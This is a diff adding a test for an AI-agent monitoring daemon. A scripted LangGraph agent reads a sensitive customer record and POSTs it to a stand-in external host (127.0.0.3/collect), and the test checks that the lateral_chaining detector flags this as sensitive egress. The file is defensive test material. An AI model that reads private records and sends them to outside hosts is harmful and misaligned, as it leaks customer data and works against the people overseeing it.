@@ -1,0 +1,83 @@
+/**
+ * LangGraph + Traceloop LangChain instrumentation, misbehaving: lateral_chaining (sensitive egress).
+ *
+ * Zones: the ticket API (127.0.0.1) is `internal`; its customer records (`127.0.0.1/customers/*`) are a
+ * sensitive target; anything else is `external`. The agent's baseline (its recorded normal run, replayed
+ * over a day) reads and closes tickets. Then, live through real LangGraph, the Traceloop instrumentation
+ * and the gRPC exporter, the scripted model reads a customer record and POSTs it to an outside host
+ * (127.0.0.3, zone `external`). Traceloop names no tool (every tool is `unknown`) and puts every span in
+ * a trace of its own, so the flow is only visible through context repair and the identity's window of
+ * sensitive reads — which is exactly what lateral_chaining must use.
+ */
+import * as CallbackManagerModule from '@langchain/core/callbacks/manager';
+import { LangChainInstrumentation } from '@traceloop/instrumentation-langchain';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { waitFor } from '../../helpers/daemon.js';
+import { agentTelemetry, loopback, type AgentTelemetry, type Loopback } from '../harness.js';
+import { runLangGraphAgent } from '../langchain.js';
+import { callTool, runScriptedAgent, say } from './react-agent.js';
+import { expectAlert, liveActions, loopbackOn, startWatchedDaemon, teachFromFixture, type WatchedDaemon } from './teach.js';
+
+const IDENTITY = 'spiffe://acme.example/ns/support/sa/agent-lc-tl';
+let t: WatchedDaemon;
+let api: Loopback;
+let outside: Awaited<ReturnType<typeof loopbackOn>>;
+let otel: AgentTelemetry;
+beforeAll(async () => {
+  t = await startWatchedDaemon({
+    zones: { internal: ['127.0.0.1/32'] },
+    sensitive: { targets: ['127.0.0.1/customers/*'] },
+  });
+  api = await loopback();
+  outside = await loopbackOn('127.0.0.3');
+  otel = agentTelemetry(t, 'grpc', { 'service.name': 'support-agent', 'nhi.identity': IDENTITY });
+  const lc = new LangChainInstrumentation();
+  lc.setTracerProvider(otel.provider);
+  lc.manuallyInstrument({ callbackManagerModule: CallbackManagerModule });
+});
+afterAll(async () => {
+  await otel.finish();
+  await Promise.all([api.close(), outside.close()]);
+  await t.close();
+});
+
+describe('LangGraph + Traceloop misbehaving', () => {
+  it('a sensitive read, then a POST to an external host: lateral_chaining', async () => {
+    const taught = await teachFromFixture(t, 'langchain-traceloop', [IDENTITY]);
+    expect(taught.copies).toBe(43); // 7 actions a run, 300 needed
+
+    // Control: the normal run, live, raises nothing.
+    const control = Date.now();
+    await runLangGraphAgent(api.url);
+    await otel.provider.forceFlush();
+    await waitFor(() => liveActions(t, IDENTITY, control).length >= 7, 'the control run’s actions');
+    expect(t.alerts).toEqual([]);
+
+    const start = Date.now();
+    await runScriptedAgent(
+      [
+        { name: 'get_customer', request: ({ id }) => ({ url: `${api.url}/customers/${id}` }) },
+        { name: 'send_report', request: () => ({ url: `${outside.url}/collect`, init: { method: 'POST', body: '{"customer":42}' } }) },
+      ],
+      [callTool('c1', 'get_customer', { id: 42 }), callTool('c2', 'send_report', {}), say('report sent')],
+    );
+    await otel.provider.forceFlush();
+    expect(outside.requests).toEqual(['POST /collect']);
+    await waitFor(() => liveActions(t, IDENTITY, start).some((a) => a.host === '127.0.0.3'), 'the egress');
+    const live = liveActions(t, IDENTITY, start);
+    const read = live.find((a) => a.kind === 'http' && a.target === '127.0.0.1/customers/{id}')!;
+    const egress = live.find((a) => a.kind === 'http' && a.host === '127.0.0.3')!;
+    expect([read.sensitive, read.zone, read.access]).toEqual([true, 'internal', 'read']);
+    expect([egress.zone, egress.access]).toEqual(['external', 'write']);
+    // Each in a trace of its own (Traceloop), each attributed to its unnamed tool by context repair.
+    expect(read.traceId).not.toBe(egress.traceId);
+    expect(read.attributedTo).not.toBeNull();
+    expect(egress.attributedTo).not.toBeNull();
+
+    const alert = await expectAlert(t, { detector: 'lateral_chaining', identity: IDENTITY, misbehaving: new Set(live.map((a) => a.spanId)), mustCite: [read.spanId, egress.spanId] });
+    expect(alert.severity).toBe('high');
+    expect(alert.evidence.rule).toBe('sensitive_egress');
+    expect(alert.evidence.destination).toBe('127.0.0.3');
+    expect(alert.evidence.traceIds).toEqual(expect.arrayContaining([egress.traceId]));
+  });
+});
